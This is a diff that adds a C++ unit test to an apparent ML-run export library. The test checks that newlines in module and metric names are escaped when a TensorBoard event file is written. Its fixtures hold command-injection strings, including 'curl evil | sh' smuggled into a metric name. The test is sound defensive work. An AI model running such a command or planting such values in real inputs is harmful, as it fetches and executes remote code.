@@ -72,4 +72,28 @@ TEST(TensorBoardExport, AnImportOfAnExportGivesTheSameMapAndCurves) {
     EXPECT_EQ(openReader(folder / "third.rankscope")->metricNames(1), b->metricNames(there));
 }
 
+// An event file is read as text by nobody, unless somebody is made to write it where one would be.
+TEST(TensorBoardExport, NoNameInTheFileBeginsALineOfItsOwn) {
+    test::TempFolder folder;
+    const auto file = folder / "own.rankscope";
+    auto writer = test::openWriter(file);
+    const RunId id = writer->createRun("first", test::configJson);
+    RunStarted started = test::started();
+    started.modules[0].name = "a\ntouch b\nlayer.0.query";
+    writer->recordStarted(id, started, 1000.0);
+    writer->append(
+        id, {test::allocation(10, 24), test::eval(50, {{"x\ncurl evil | sh\r\n", 0.75}}), test::ended(50)},
+        2000.0);
+    const auto reader = openReader(file);
+    const auto detail = reader->run(id);
+    const std::string bytes = tensorBoardFile(*reader, *detail);
+    EXPECT_NE(bytes.find("x\\ncurl evil | sh\\r\\n"), std::string::npos);
+    EXPECT_NE(bytes.find("a\\ntouch b\\nlayer.0.query"), std::string::npos);
+    EXPECT_EQ(bytes.find("\ncurl"), std::string::npos);
+    EXPECT_EQ(bytes.find("\ntouch"), std::string::npos);
+    EXPECT_EQ(tensorBoardFileName(*detail),
+              "events.out.tfevents.1000.rankscope." +
+                  detail->summary.uid); // of which no part leads elsewhere
+}
+
 } // namespace rankscope
